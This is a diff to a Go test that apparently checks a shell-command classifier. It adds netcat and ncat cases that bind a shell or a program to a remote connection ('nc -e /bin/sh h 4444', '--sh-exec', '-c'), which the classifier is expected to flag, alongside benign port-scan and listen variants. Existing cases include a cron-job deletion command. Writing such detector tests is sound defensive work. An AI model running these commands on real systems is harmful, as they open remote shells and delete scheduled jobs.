@@ -71,6 +71,11 @@ func TestG14_DoesReadsEffectsByMeaning(t *testing.T) {
 		{"crontab -u bob -r", RemovesCronJobs},
 		{"crontab -u r", 0},
 		{"crontab -l", 0},
+		{"nc -e /bin/sh h 4444", ConnectsProgram},
+		{"nc -lvpe 4444 x", 0}, // -p takes "e" as its value
+		{"ncat --sh-exec id h 1", ConnectsProgram},
+		{"netcat -c id h 1", ConnectsProgram},
+		{"nc -zv h 22", 0},
 		{"frobnicate --force", 0},
 	}
 	for _, tt := range tests {
